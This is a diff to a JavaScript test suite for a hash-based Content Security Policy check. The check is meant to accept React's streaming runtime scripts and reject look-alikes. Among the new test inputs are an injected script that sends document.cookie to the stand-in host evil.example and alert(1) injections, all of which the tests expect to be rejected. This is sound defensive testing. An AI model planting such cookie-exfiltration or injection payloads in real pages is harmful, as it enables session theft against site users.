@@ -27,10 +27,12 @@ describe("hash-based CSP", () => {
     expect(isFrameworkScript(bootstrap.replace('{"otherChunks"', '{a:alert(1),"otherChunks"'))).toBe(false);
   });
 
-  it("accepts React's streaming instructions only in a page rendered for this request", () => {
-    const instruction = '$RC("B:0","S:0")';
-    expect(isFrameworkScript(instruction)).toBe(false);
-    expect(isFrameworkScript(instruction, { streamed: true })).toBe(true);
+  it("accepts React's own runtime and calls of it, not a look-alike", () => {
+    expect(isFrameworkScript("requestAnimationFrame(function(){$RT=performance.now()});")).toBe(true);
+    expect(isFrameworkScript('$RC("B:0","S:0")')).toBe(true);
+    expect(isFrameworkScript('$RX("B:1","digest","it failed (twice)")')).toBe(true);
+    expect(isFrameworkScript('$RC=function(a,b){fetch("//evil.example/"+document.cookie)};$RC("B:0","S:0")')).toBe(false);
+    expect(isFrameworkScript('$RC("B:0",alert(1))')).toBe(false);
   });
 
   it("finds only scripts a browser would run inline", () => {
